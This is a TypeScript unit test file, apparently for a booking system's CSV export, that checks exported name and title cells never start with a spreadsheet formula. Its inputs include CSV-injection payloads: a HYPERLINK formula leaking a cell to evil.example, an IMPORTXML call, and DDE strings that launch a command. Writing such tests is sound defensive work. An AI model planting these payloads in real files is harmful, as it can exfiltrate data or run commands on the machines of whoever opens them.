import { describe, expect, it } from "vitest";
import { BOOKINGS_CSV } from "./csv.ts";
import type { BookingRow } from "./schema.ts";

/** What starts a formula, alone and behind what spreadsheets skip. */
const SIGNS = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"];
const FORMULAS = [
  ...SIGNS.flatMap((sign) => [
    `${sign}1+1`,
    ` ${sign}1+1`,
    `\u00a0${sign}1`,
    `\ufeff${sign}1`,
    `\n${sign}1`,
    `\t${sign}1`,
  ]),
  ...[
    '=HYPERLINK("https://evil.example?"&A1,"ici")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
  ],
  ...["@SUM(1+1)*cmd|' /C calc'!A0", '=IMPORTXML("https://evil.example","//a")', "=1+1;=2+2", '=1+1"', '="x"', "=1,=2"],
];
/** Harmless where cells are separated by commas, and the start of a cell where they are by semicolons or tabs. */
const LATE_FORMULAS = [
  "Ada;=1+1",
  "Ada; =1+1",
  'Ada";=1+1',
  'Ada";"=1+1',
  "Ada;\t@SUM(1)",
  "Ada;'+1",
  "Ada\t=1+1",
  "a;b;－1",
];

/** The cells of one line as a spreadsheet reads them, which heeds quotes at the start of a cell alone. */
function cellsOf(line: string, separator: string): string[] {
  const cells: string[] = [];
  let rest = line;
  while (rest !== "") {
    const [whole = "", quoted = "", tail = ""] =
      new RegExp(`^(?:"((?:[^"]|"")*)")?([^${separator}]*)(?:${separator}|$)`).exec(rest) ?? [];
    cells.push(quoted.replaceAll('""', '"') + tail);
    if (whole === "") break;
    rest = rest.slice(whole.length);
  }
  return cells;
}

const isFormula = (cell: string) => /^\s*[=+\-@＝＋－＠]/.test(cell);

const row = (text: string): BookingRow => ({
  ...{ id: "x", reference: "K7Q2-9XPM", status: "CONFIRMED", name: text, email: "ada@example.org", seats: 2 },
  ...{ unitPrice: 1000, totalPrice: 2000, currency: "EUR" },
  ...{ createdAt: "2030-03-01T12:00:00.000Z", expiresAt: "2030-03-01T12:15:00.000Z" },
  ...{ extendedAt: null, confirmedAt: null, cancelledAt: null },
  session: { id: "x", startsAt: "2030-03-10T19:00:00.000Z", endsAt: "2030-03-10T21:00:00.000Z", status: "SCHEDULED" },
  event: { id: "x", slug: "x", title: text, venue: "x", address: "x", city: "x", timeZone: "Europe/Paris" },
});

describe("the export", () => {
  it.each([...FORMULAS, ...LATE_FORMULAS])("has no formula in a cell, whatever separates cells: %j", (text) => {
    for (const separator of [",", ";", "\t"]) {
      const line = BOOKINGS_CSV.line(row(text), "fr").slice(0, -2);
      expect(cellsOf(line, separator).filter(isFormula)).toEqual([]);
    }
  });

  it.each([...FORMULAS, ...LATE_FORMULAS, 'a"b', "a,b", 'a"\r\nb,c', '"'])(
    "has eleven cells in a line with %j",
    (text) => {
      const cells = cellsOf(BOOKINGS_CSV.line(row(text), "fr").slice(0, -2), ",");
      expect(cells).toHaveLength(cellsOf(BOOKINGS_CSV.header("fr").slice(1, -2), ",").length);
      expect(cells[2]?.replaceAll("'", "")).toBe(text.replaceAll("'", ""));
      expect(cells.slice(6, 9)).toEqual(["2", "1000", "2000"]);
    },
  );
});
